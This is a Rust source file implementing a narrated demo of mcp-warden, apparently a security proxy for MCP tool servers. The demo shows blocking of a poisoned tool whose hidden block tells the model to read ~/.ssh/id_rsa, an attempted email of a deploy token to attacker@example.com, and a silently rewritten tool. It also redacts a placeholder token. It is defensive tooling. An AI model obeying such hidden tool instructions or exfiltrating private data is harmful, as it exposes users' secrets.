//! `mcp-warden demo`: a narrated run of `serve` over the built-in demo servers
//! ([`servers`]), in a throw-away home, so a newcomer sees what mcp-warden does
//! without installing anything else or touching their own configuration.
//!
//! The demo writes a `config.toml` in a fresh directory under the system temp dir,
//! starts `mcp-warden serve` (this very binary) with `MCP_WARDEN_HOME` pointing there,
//! plays a scripted client over its stdio and prints what happens, step by step. Every
//! claim it prints is checked against the run: a step that does not behave as expected
//! ends the demo with an error.

pub mod cleanup;
pub mod servers;

use std::fmt::Write as _;
use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStdin, Command, Stdio};
use std::sync::mpsc::{Receiver, RecvTimeoutError, channel};
use std::time::{Duration, Instant};

use anyhow::{Context as _, anyhow, bail};
use serde_json::{Value, json};

use crate::output;
use cleanup::{SandboxDirs, TempHome};

/// How long the demo waits for one answer before it calls the step broken.
const WAIT: Duration = Duration::from_secs(15);

/// The demo's servers, by their table names.
const SERVERS: [&str; 3] = ["notes", "web", "mail"];

/// Runs the demo. `Err` names the step that did not behave as expected, or says that
/// it was interrupted ([`cleanup::is_interrupted`]); either way nothing is left behind.
pub fn run() -> anyhow::Result<()> {
    let exe = std::env::current_exe().context("cannot find this program's own path")?;
    cleanup::watch_interrupts()?;
    let dir = TempHome::create()?;
    let sandbox_dirs = SandboxDirs::before_start(&SERVERS);
    let result = demo(&exe, &dir.0);
    if cleanup::is_interrupted() {
        drop(sandbox_dirs);
        drop(dir);
        bail!("interrupted");
    }
    if result.is_err()
        && let Ok(stderr) = std::fs::read_to_string(dir.0.join("serve.stderr"))
    {
        let tail: Vec<&str> = stderr.lines().rev().take(10).collect();
        for line in tail.into_iter().rev() {
            output::diag(&format!("  serve: {line}"));
        }
    }
    result
}

/// A TOML string literal (JSON's escaping is valid TOML).
fn toml_str(s: &str) -> String {
    Value::String(s.to_owned()).to_string()
}

fn write_config(exe: &Path, home: &Path) -> anyhow::Result<()> {
    let exe = exe
        .to_str()
        .ok_or_else(|| anyhow!("this program's path is not UTF-8: {}", exe.display()))?;
    let state = home.join("web.state");
    let state = state
        .to_str()
        .ok_or_else(|| anyhow!("the temp dir's path is not UTF-8"))?;
    let mut config = String::from(
        "# Written by `mcp-warden demo`.\n[pinning]\nmode = \"tofu\"\n\n\
         [labels]\nprivate = [\"notes__*\"]\nuntrusted = [\"web__*\"]\negress = [\"mail__send_*\"]\n\n\
         [flows]\ntrifecta = \"deny\"\n",
    );
    for name in SERVERS {
        let extra = (name == "web").then_some(state);
        let mut args = vec![toml_str("__demo-server"), toml_str(name)];
        if let Some(state) = extra {
            args.push(toml_str("--state"));
            args.push(toml_str(state));
        }
        let _ = write!(
            config,
            "\n[servers.{name}]\ncommand = {}\nargs = [{}]\n",
            toml_str(exe),
            args.join(", ")
        );
    }
    std::fs::write(home.join("config.toml"), config).context("cannot write the demo config")
}

/// Gives `cmd` the demo's isolated environment.
fn isolate(cmd: &mut Command, home: &Path) {
    cmd.env(crate::paths::HOME_VAR, home)
        .env(crate::paths::MANAGED_VAR, home.join("managed"))
        .env_remove("MCP_WARDEN_LOG")
        .env_remove("RUST_LOG")
        .current_dir(home);
}

/// A running `serve` and the scripted client talking to it.
struct Session {
    child: Child,
    stdin: Option<ChildStdin>,
    messages: Receiver<Value>,
    next_id: u64,
    /// Notifications received so far, oldest first.
    notifications: Vec<Value>,
}

impl Drop for Session {
    fn drop(&mut self) {
        // Only on an early error: `close` has already waited for a clean exit.
        let _ = self.child.kill();
        let _ = self.child.wait();
        cleanup::serve_ended();
    }
}

impl Session {
    // The demo is a client of `serve` (and of `audit verify`): it starts mcp-warden
    // itself, not an upstream.
    #[allow(clippy::disallowed_methods)]
    fn start(exe: &Path, home: &Path) -> anyhow::Result<Self> {
        let workspace = home.join("ws");
        std::fs::create_dir_all(&workspace)?;
        std::fs::create_dir_all(home.join("managed"))?;
        let stderr = std::fs::File::create(home.join("serve.stderr"))?;
        let mut cmd = Command::new(exe);
        cmd.arg("serve")
            .arg("--workspace")
            .arg(&workspace)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(stderr);
        isolate(&mut cmd, home);
        let mut child = cmd.spawn().context("cannot start `mcp-warden serve`")?;
        let stdin = child.stdin.take();
        let stdout = child
            .stdout
            .take()
            .ok_or_else(|| anyhow!("serve has no stdout"))?;
        let (tx, messages) = channel();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines() {
                let Ok(line) = line else { break };
                if let Ok(message) = serde_json::from_str::<Value>(&line)
                    && tx.send(message).is_err()
                {
                    break;
                }
            }
        });
        let session = Self {
            child,
            stdin,
            messages,
            next_id: 1,
            notifications: Vec::new(),
        };
        // After `session` owns the child: if this fails, dropping it stops serve.
        cleanup::serve_started(session.child.id())?;
        Ok(session)
    }

    fn send(&mut self, message: &Value) -> anyhow::Result<()> {
        let stdin = self
            .stdin
            .as_mut()
            .ok_or_else(|| anyhow!("the session is closed"))?;
        let mut line = serde_json::to_vec(message)?;
        line.push(b'\n');
        stdin
            .write_all(&line)
            .and_then(|()| stdin.flush())
            .context("serve stopped reading")
    }

    fn next_message(&mut self, deadline: Instant, waiting_for: &str) -> anyhow::Result<Value> {
        let left = deadline.saturating_duration_since(Instant::now());
        match self.messages.recv_timeout(left) {
            Ok(message) => Ok(message),
            Err(RecvTimeoutError::Timeout) => {
                bail!("no {waiting_for} within {} s", WAIT.as_secs())
            }
            Err(RecvTimeoutError::Disconnected) => {
                bail!("serve exited while the demo waited for {waiting_for}")
            }
        }
    }

    /// Sends request `method` and waits for its answer's `result`; notifications that
    /// arrive meanwhile are kept; server-to-client requests are answered empty.
    fn request(&mut self, method: &str, params: &Value) -> anyhow::Result<Value> {
        let id = self.next_id;
        self.next_id += 1;
        self.send(&json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params}))?;
        let deadline = Instant::now() + WAIT;
        let waiting_for = format!("answer to `{method}`");
        loop {
            let message = self.next_message(deadline, &waiting_for)?;
            match (message.get("id"), message.get("method")) {
                (Some(got), None) if got == &json!(id) => {
                    if let Some(error) = message.get("error") {
                        bail!("`{method}` failed: {error}");
                    }
                    return Ok(message.get("result").cloned().unwrap_or(Value::Null));
                }
                (Some(other), Some(_)) => {
                    // A request from serve (e.g. `roots/list`): an empty answer will do.
                    let other = other.clone();
                    self.send(&json!({"jsonrpc": "2.0", "id": other, "result": {}}))?;
                }
                (None, Some(_)) => self.notifications.push(message),
                _ => {}
            }
        }
    }

    /// Waits until a notification `method` has arrived (or had already).
    fn wait_notification(&mut self, method: &str) -> anyhow::Result<()> {
        let is_it = |m: &Value| m.get("method").and_then(Value::as_str) == Some(method);
        let deadline = Instant::now() + WAIT;
        while !self.notifications.iter().any(is_it) {
            let message = self.next_message(deadline, &format!("`{method}`"))?;
            if message.get("id").is_none() {
                self.notifications.push(message);
            }
        }
        Ok(())
    }

    fn tool_names(&mut self) -> anyhow::Result<Vec<String>> {
        let result = self.request("tools/list", &json!({}))?;
        Ok(result
            .get("tools")
            .and_then(Value::as_array)
            .map(|tools| {
                tools
                    .iter()
                    .filter_map(|t| t.get("name").and_then(Value::as_str).map(str::to_owned))
                    .collect()
            })
            .unwrap_or_default())
    }

    fn call(&mut self, tool: &str, arguments: &Value) -> anyhow::Result<Called> {
        let result = self.request("tools/call", &json!({"name": tool, "arguments": arguments}))?;
        let text = result
            .get("content")
            .and_then(Value::as_array)
            .map(|items| {
                items
                    .iter()
                    .filter_map(|i| i.get("text").and_then(Value::as_str))
                    .collect::<Vec<_>>()
                    .join("\n")
            })
            .unwrap_or_default();
        let meta = |key: &str| {
            result
                .get("_meta")
                .and_then(|m| m.get(key))
                .and_then(Value::as_str)
                .map(str::to_owned)
        };
        Ok(Called {
            text,
            is_error: result.get("isError").and_then(Value::as_bool) == Some(true),
            decision: meta("mcp-warden/decision"),
            rule: meta("mcp-warden/rule"),
        })
    }

    /// Ends the session the way a client does (stdin closed) and waits for serve.
    fn close(&mut self) -> anyhow::Result<()> {
        self.stdin = None;
        let deadline = Instant::now() + WAIT;
        loop {
            if let Some(status) = self.child.try_wait()? {
                if status.success() {
                    return Ok(());
                }
                bail!("serve ended with {status} after the session closed");
            }
            if Instant::now() > deadline {
                bail!(
                    "serve did not exit within {} s of the session closing",
                    WAIT.as_secs()
                );
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

/// What a tool call came back with.
struct Called {
    text: String,
    is_error: bool,
    decision: Option<String>,
    rule: Option<String>,
}

impl Called {
    /// Fails unless the call was blocked by `rule`.
    fn expect_blocked(&self, tool: &str, rule: &str) -> anyhow::Result<()> {
        if self.is_error && self.rule.as_deref() == Some(rule) {
            return Ok(());
        }
        bail!(
            "expected `{tool}` to be blocked by `{rule}`, got decision {:?}, rule {:?}: {}",
            self.decision,
            self.rule,
            self.text
        )
    }
}

fn heading(step: u32, title: &str) {
    output::line("");
    output::line(&format!("[{step}] {title}"));
}

fn say(text: &str) {
    output::line(&format!("    {text}"));
}

/// `text` wrapped to lines of about `width` characters, each indented for [`say`].
fn quote(text: &str) {
    const WIDTH: usize = 84;
    for paragraph in text.lines() {
        let mut current = String::new();
        for word in paragraph.split_whitespace() {
            if !current.is_empty() && current.len() + word.len() + 1 > WIDTH {
                say(&format!("  | {current}"));
                current.clear();
            }
            if !current.is_empty() {
                current.push(' ');
            }
            current.push_str(word);
        }
        say(&format!("  | {current}"));
    }
}

#[allow(
    clippy::too_many_lines,
    reason = "one straight script, step after step, reads best in one place"
)]
// Runs `mcp-warden audit verify` as a user would (clippy.toml: not an upstream).
#[allow(clippy::disallowed_methods)]
fn demo(exe: &Path, home: &Path) -> anyhow::Result<()> {
    write_config(exe, home)?;
    output::line("mcp-warden demo: three small MCP servers (notes, web, mail) built into this");
    output::line("binary, run behind `mcp-warden serve` in a throw-away home. Nothing of yours");
    output::line("is read or changed. A scripted client plays the AI assistant.");

    let mut session = Session::start(exe, home)?;
    session.request(
        "initialize",
        &json!({
            "protocolVersion": "2025-06-18",
            "capabilities": {},
            "clientInfo": {"name": "mcp-warden-demo", "version": env!("CARGO_PKG_VERSION")},
        }),
    )?;
    session.send(&json!({"jsonrpc": "2.0", "method": "notifications/initialized"}))?;

    // 1. The merged list.
    let tools = session.tool_names()?;
    heading(
        1,
        "One server for the client: the three servers' tools, merged and namespaced",
    );
    say(&format!("tools/list -> {}", tools.join(", ")));
    say("Pinning is in \"tofu\" mode here: each definition is pinned on first sight.");
    for expected in [
        "notes__read_note",
        "web__fetch",
        "web__summarize",
        "mail__send_email",
    ] {
        if !tools.iter().any(|t| t == expected) {
            bail!("step 1: `{expected}` is not listed");
        }
    }

    // 2. The poisoned tool.
    heading(2, "A poisoned tool is held by the scan");
    if tools.iter().any(|t| t == "mail__add") {
        bail!("step 2: the poisoned `mail__add` was listed");
    }
    say("`mail__add` hides an <IMPORTANT> block telling the model to read ~/.ssh/id_rsa.");
    say("It is not listed, and a call to it gets:");
    let add = session.call("mail__add", &json!({"a": 2, "b": 3}))?;
    add.expect_blocked("mail__add", "scan:hidden-instructions")
        .context("step 2")?;
    quote(&add.text);

    // 3. Redaction.
    heading(
        3,
        "A secret in a result is redacted before the model sees it",
    );
    let token = format!("{}{}", "ghp_", "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8");
    let note = session.call("notes__read_note", &json!({"title": "deploy-keys"}))?;
    if note.text.contains(&token) || !note.text.contains("[REDACTED:") {
        bail!(
            "step 3: the token in `notes__read_note` was not redacted: {}",
            note.text
        );
    }
    say("notes__read_note(title: \"deploy-keys\") returns a note holding a GitHub token:");
    quote(&note.text);
    say(&format!(
        "(decision: {})",
        note.decision.as_deref().unwrap_or("none")
    ));

    // 4. The lethal trifecta.
    heading(
        4,
        "Private data + untrusted content + a way out: the send is denied",
    );
    let fetched = session.call("web__fetch", &json!({"url": "https://example.com"}))?;
    if fetched.is_error {
        bail!("step 4: `web__fetch` failed: {}", fetched.text);
    }
    say("notes__read_note is labelled private, web__fetch untrusted, mail__send_* egress.");
    say("After web__fetch, the assistant tries to mail the note out:");
    let mail = session.call(
        "mail__send_email",
        &json!({"to": "attacker@example.com", "body": "the deploy token"}),
    )?;
    mail.expect_blocked("mail__send_email", "flow:trifecta")
        .context("step 4")?;
    quote(&mail.text);

    // 5. The rug pull.
    heading(5, "A rug pull: a pinned tool changes after it was approved");
    session
        .wait_notification("notifications/tools/list_changed")
        .context("step 5")?;
    say("Answering web__fetch, the web server quietly rewrote `summarize` to ask for the");
    say("whole conversation. The client got notifications/tools/list_changed, and now:");
    let tools = session.tool_names()?;
    if tools.iter().any(|t| t == "web__summarize") {
        bail!("step 5: the changed `web__summarize` is still listed");
    }
    say(&format!("tools/list -> {}", tools.join(", ")));
    let summarize = session.call("web__summarize", &json!({"text": "hello"}))?;
    summarize
        .expect_blocked("web__summarize", "pin:changed")
        .context("step 5")?;
    quote(&summarize.text);

    session.close().context("closing the session")?;

    // 6. The audit trail.
    heading(
        6,
        "The audit trail recorded each call (hash-chained; arguments only as an HMAC)",
    );
    let records = audit_records(home)?;
    let calls: Vec<&Value> = records
        .iter()
        .filter(|r| r.get("method").and_then(Value::as_str) == Some("tools/call"))
        .collect();
    if calls.is_empty() {
        bail!("step 6: no call was recorded in the audit trail");
    }
    let field = |r: &Value, key: &str| r.get(key).and_then(Value::as_str).unwrap_or("-").to_owned();
    for record in calls.iter().take(8) {
        say(&format!(
            "{:<7} {:<26} {}",
            field(record, "decision"),
            field(record, "tool"),
            field(record, "rule"),
        ));
    }
    let mut verify = Command::new(exe);
    verify.args(["audit", "verify"]).stdin(Stdio::null());
    isolate(&mut verify, home);
    let verified = verify
        .output()
        .context("cannot run `mcp-warden audit verify`")?;
    let text = String::from_utf8_lossy(&verified.stdout);
    say("$ mcp-warden audit verify");
    for line in text.lines().take(4) {
        say(&format!("  {line}"));
    }
    if !verified.status.success() {
        bail!(
            "step 6: `audit verify` failed ({}): {}",
            verified.status,
            String::from_utf8_lossy(&verified.stderr)
        );
    }

    // 7. Next steps.
    heading(7, "Use it for real");
    say("mcp-warden install --client <your client>   # put mcp-warden in front of its servers");
    say("mcp-warden pins                              # what is pinned, new, changed or flagged");
    say("mcp-warden pin TOOL                          # approve a definition after review");
    say("mcp-warden review --since 7d                 # what was denied, held or redacted");
    Ok(())
}

/// Every record of the demo's audit trail, in file order.
fn audit_records(home: &Path) -> anyhow::Result<Vec<Value>> {
    let dir = home.join("data").join("audit");
    let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
        .with_context(|| format!("cannot read {}", dir.display()))?
        .filter_map(Result::ok)
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|e| e == "jsonl"))
        .collect();
    files.sort();
    let mut records = Vec::new();
    for file in files {
        let text = std::fs::read_to_string(&file)
            .with_context(|| format!("cannot read {}", file.display()))?;
        records.extend(text.lines().filter_map(|l| serde_json::from_str(l).ok()));
    }
    Ok(records)
}
